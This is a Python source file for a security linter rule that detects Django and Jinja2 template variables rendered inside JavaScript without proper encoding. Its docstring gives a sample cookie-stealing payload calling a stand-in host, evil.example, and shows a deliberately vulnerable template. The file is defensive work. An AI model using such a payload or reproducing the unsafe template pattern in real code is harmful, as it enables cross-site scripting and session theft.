"""A template renders a variable inside JavaScript without `json_script` or `escapejs`.

## Why it matters
HTML autoescaping is made for HTML text and quoted attribute values, not for JavaScript. Inside
a `<script>` element, a value rendered in code (`var n = {{ count }};`) needs no quote to run:
`1; fetch('//evil.example/?c=' + document.cookie)` is escaped into nothing different. In a
string (`var q = "{{ q }}";`) a trailing backslash or a line separator breaks the string and the
next value on the line becomes code. In an event-handler attribute (`onclick="go('{{ x }}')"`)
or a `javascript:` URL it is worse: the browser decodes `&#x27;` back into `'` before running
the code, so autoescaping does not even protect the quotes.

A child template's `{% block %}` counts as JavaScript when the parent it `{% extends %}`
(found by name under the project's `templates/` folders) places that block inside a `<script>`;
so does a template `{% include %}`d inside a `<script>`, and a `.js` template under `templates/`.

The safe ways are Django's `{{ value|json_script:"id" }}` outside the script, read with
`JSON.parse(document.getElementById("id").textContent)`, Jinja2's `{{ value|tojson }}` in code
(not inside quotes), or `escapejs` inside a single- or double-quoted JavaScript string (not
in a template literal, where `${…}` still runs). These, numbers (`{{ items|length }}`,
`forloop.counter`), ids (`object.pk`, `*_id`), `csrf_token` and literals are not reported, nor
are values in `<script>` elements of non-JavaScript types (`type="text/template"`,
`application/json`). A value marked `|safe` is reported once, by PG302. In a `.js` template
inside `{% autoescape off %}`, a value in code (not in a string) is how a view hands over data
it encoded with `json.dumps()`; such values are reported at low confidence unless they are
traced to request data. ponyguard does not
yet link templates to the views that render them, so it cannot tell whether the value comes
from a user: medium confidence.

## Insecure example
```html+django
<script>
  const query = "{{ request.GET.q }}";
  const options = {{ options }};
</script>
<button onclick="select('{{ item.name }}')">Select</button>
```

## Fix
Pass data to JavaScript with `json_script` and read it from the page:
`{{ options|json_script:"options" }}` and
`const options = JSON.parse(document.getElementById("options").textContent);`.
Attach event handlers from JavaScript files instead of `on*` attributes, with the value in a
`data-` attribute (`data-name="{{ item.name }}"`) read through `element.dataset`.

## References
- https://docs.djangoproject.com/en/stable/ref/templates/builtins/#json-script
- https://docs.djangoproject.com/en/stable/ref/templates/builtins/#escapejs
- https://jinja.palletsprojects.com/en/stable/templates/#jinja-filters.tojson
- https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html#output-encoding-for-javascript-contexts
- https://cwe.mitre.org/data/definitions/79.html
"""

from __future__ import annotations

from collections.abc import Iterator

from ....core.finding import Finding
from ....core.rule import Rule
from ....core.severity import Confidence, Severity
from ...templates.files import TemplateFile
from ...templates.model import Expression, HtmlContext, TokenKind
from ._support import last_filter, non_text, report

rule = Rule("PG305", "template-variable-in-script",
            "Template renders a variable inside JavaScript without json_script",
            Severity.HIGH, Confidence.MEDIUM, cwe=(79,), doc_text=__doc__, runtime=False)

AUTOESCAPE_OFF = frozenset({"off", "false", "False"})
PRE_ENCODED = ("the value is pasted in as code, which is only safe when the view encoded it for "
               "JavaScript (json.dumps()); check that it did")
FIX = ('Pass the value with {{ value|json_script:"id" }} and JSON.parse it in the script; '
       "use escapejs only inside a quoted JavaScript string.")


@rule.on("template")
def check(template: TemplateFile) -> Iterator[Finding]:
    if template.plain_text:
        return
    escaping: list[bool] = []
    for token in template.tokens:
        if token.kind is TokenKind.BLOCK and token.tag == "autoescape":
            escaping.append(token.arguments.strip() not in AUTOESCAPE_OFF)
        elif token.kind is TokenKind.BLOCK and token.tag == "endautoescape" and escaping:
            escaping.pop()
        context, expression = token.context, token.expression
        if token.kind is not TokenKind.VARIABLE or context is None or expression is None \
                or not context.js:
            continue
        problem = _problem(context, expression)
        if problem is None:
            continue
        if template.javascript and escaping and not escaping[-1] and context.js_string is None:
            yield report(rule, template, token, f"`{token.source}` {_where(context)} with "
                         f"autoescaping off: {PRE_ENCODED}", confidence=Confidence.LOW, fix=FIX)
        else:
            yield report(rule, template, token, f"`{token.source}` {_where(context)}: {problem}",
                         fix=FIX)


def _problem(context: HtmlContext, expression: Expression) -> str | None:
    """Why the value is unsafe where it stands, or None when it is safe there."""
    if non_text(expression) or expression.has_filter("safe", "safeseq"):
        return None  # |safe is PG302's, which says it is in JavaScript
    last = last_filter(expression)
    quoted = context.js_string in ("'", '"')
    if last == "json_script" or (last == "escapejs" and quoted) or (last == "tojson"
                                                                   and not context.js_string):
        return None
    if last == "escapejs":
        return ("escapejs only protects a value inside a single- or double-quoted string; "
                "here the value can still run as code")
    if last == "tojson":
        return "tojson output inside a quoted string can end the string"
    if context.attribute is not None:
        return ("the browser decodes HTML entities before running the code, so autoescaping "
                "does not stop a quote from ending the string")
    if quoted or context.js_string == "`":
        return ("HTML autoescaping does not escape backslashes, line separators or `${`, "
                "so the value can break out of the string")
    return "HTML autoescaping does not stop a value rendered in code from running as code"


def _where(context: HtmlContext) -> str:
    if context.attribute is None:
        inherited = f" ({context.inherited})" if context.inherited else ""
        return f"is rendered inside a <script> element{inherited}"
    if context.attribute.startswith("on"):
        return f"is rendered inside the `{context.attribute}` event handler"
    return f"is rendered inside a javascript: URL in `{context.attribute}`"
